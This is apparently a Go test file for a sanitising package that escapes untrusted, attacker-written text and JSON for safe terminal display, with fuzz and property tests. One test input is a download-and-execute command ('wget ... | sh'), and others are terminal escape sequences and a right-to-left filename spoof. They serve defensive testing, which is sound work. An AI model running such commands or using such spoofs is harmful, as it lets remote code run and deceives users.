package printable_test

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/ttpstream/ttpstream/projections/printable"
)

func TestText(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"plain", "wget http://203.0.113.7/x.sh -O- | sh", "wget http://203.0.113.7/x.sh -O- | sh"},
		{"empty", "", ""},
		{"backslashes stay", `echo -e "\x41"`, `echo -e "\x41"`},
		{"escape sequence", "a\x1b[2Jb", `a\x1b[2Jb`},
		{"window title", "\x1b]0;owned\a", `\x1b]0;owned\x07`},
		{"control sequence of one character", "a\u009b31mb", `a\u009b31mb`},
		{"line breaks", "a\nb\r\tc", `a\nb\r\tc`},
		{"NUL and DEL", "\x00\x7f", `\x00\x7f`},
		{"bidirectional override", "evil\u202egpj.exe", `evil\u202egpj.exe`},
		{"isolates and marks", "\u2066\u2069\u200e\u200f", `\u2066\u2069\u200e\u200f`},
		{"letters from right to left", "\u05d0\u0627", `\u05d0\u0627`},
		{"zero width", "a\u200bb\u200dc\ufeffd", `a\u200bb\u200dc\ufeffd`},
		{"line separators", "a\u2028b\u2029c\u0085d", `a\u2028b\u2029c\u0085d`},
		{"stacked marks", "e\u0301\u0489", `e\u0301\u0489`},
		{"odd spaces", "a\u00a0b\u3000c\u2800d\u3164e", `a\u00a0b\u3000c\u2800d\u3164e`},
		{"tag characters and private use", "\U000e0041\ue000", `\U000e0041\ue000`},
		{"not UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"the replacement character itself", "\ufffd", "\ufffd"},
		{"letters of the world", "größe 你好 テスト Привет", "größe 你好 テスト Привет"},
		{"emoji", "🚀", "🚀"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(c.want, printable.Text(c.in, "")); diff != "" {
				t.Errorf("Text(%q) (-want +got):\n%s", c.in, diff)
			}
		})
	}
}

func TestTextEscapesTheCallersSeparators(t *testing.T) {
	t.Parallel()
	if got, want := printable.Text("a ×9 · b|c", "×·|"), `a \u00d79 \u00b7 b\x7cc`; got != want {
		t.Errorf("Text = %q, want %q", got, want)
	}
}

func TestCut(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		in        string
		width     int
		cut, left string
	}{
		{"honeypot", 8, "honeypot", "honeypot"},
		{"honeypot", 5, "hone…", "…ypot"},
		{"honeypot", 1, "…", "…"},
		{"honeypot", 0, "", ""},
		{"honeypot", -3, "", ""},
		{"你好吗", 6, "你好吗", "你好吗"},
		{"你好吗", 5, "你好…", "…好吗"},
		{"你好吗", 4, "你…", "…吗"},
	} {
		if got := printable.Cut(c.in, c.width); got != c.cut {
			t.Errorf("Cut(%q, %d) = %q, want %q", c.in, c.width, got, c.cut)
		}
		if got := printable.CutLeft(c.in, c.width); got != c.left {
			t.Errorf("CutLeft(%q, %d) = %q, want %q", c.in, c.width, got, c.left)
		}
	}
	if got, want := printable.Left("你好吗", 6)+"|"+printable.Left("ab", 4)+"|"+printable.Right("12", 4), "你好吗|ab  |  12"; got != want {
		t.Errorf("padding = %q, want %q", got, want)
	}
}

// Whatever the attacker writes: one line of visible characters, and doing it twice changes nothing more.
func TestTextIsAlwaysPrintable(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		in := rapid.OneOf(rapid.String(), bytesAsText()).Draw(t, "in")
		checkText(t, in)
	})
}

func FuzzText(f *testing.F) {
	f.Add("a\x1b[2Jb\u202e\xff")
	f.Fuzz(func(t *testing.T, in string) { checkText(t, in) })
}

func checkText(tb interface {
	Helper()
	Fatalf(string, ...any)
}, in string,
) {
	tb.Helper()
	out := printable.Text(in, "·")
	if !utf8.ValidString(out) || strings.Contains(out, "·") {
		tb.Fatalf("Text(%q) = %q", in, out)
	}
	for _, r := range out {
		if !unicode.IsPrint(r) || unicode.IsMark(r) {
			tb.Fatalf("Text(%q) = %q holds %U", in, out, r)
		}
	}
	if again := printable.Text(out, "·"); again != out {
		tb.Fatalf("Text of its own result %q = %q", out, again)
	}
	for width := range 12 {
		for _, cut := range []string{printable.Cut(out, width), printable.CutLeft(out, width)} {
			if printable.Width(cut) > width {
				tb.Fatalf("cut of %q to %d cells: %q has %d", out, width, cut, printable.Width(cut))
			}
		}
	}
}

// JSON keeps the value and holds nothing that a terminal would act on.
func TestJSON(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		value := map[string]any{rapid.String().Draw(t, "key"): rapid.String().Draw(t, "value"), "n": 1.5}
		raw, err := json.MarshalIndent(value, "", "\t")
		if err != nil {
			t.Fatal(err)
		}
		safe := printable.JSON(raw)
		var want, got any
		if err := json.Unmarshal(raw, &want); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(safe, &got); err != nil {
			t.Fatalf("%s: %v", safe, err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("%s became %s:\n%s", raw, safe, diff)
		}
		if spaced := strings.NewReplacer("\n", "", "\t", "").Replace(string(safe)); printable.Text(spaced, "") != spaced {
			t.Fatalf("not printable: %q", safe)
		}
	})
}

func TestJSONSpellings(t *testing.T) {
	t.Parallel()
	raw := "{\"a\":\r\n\"x\u009b\u202e\U000e0041\x7f é\"}"
	want := `{"a": ` + "\n" + `"x\u009b\u202e\udb40\udc41\u007f é"}`
	if got := string(printable.JSON([]byte(raw))); got != want {
		t.Errorf("JSON = %q, want %q", got, want)
	}
	if clean := []byte("{\"a\": \"b\"}\n"); &printable.JSON(clean)[0] != &clean[0] {
		t.Error("clean JSON was copied")
	}
}

func bytesAsText() *rapid.Generator[string] {
	return rapid.Map(rapid.SliceOf(rapid.Byte()), func(b []byte) string { return string(b) })
}
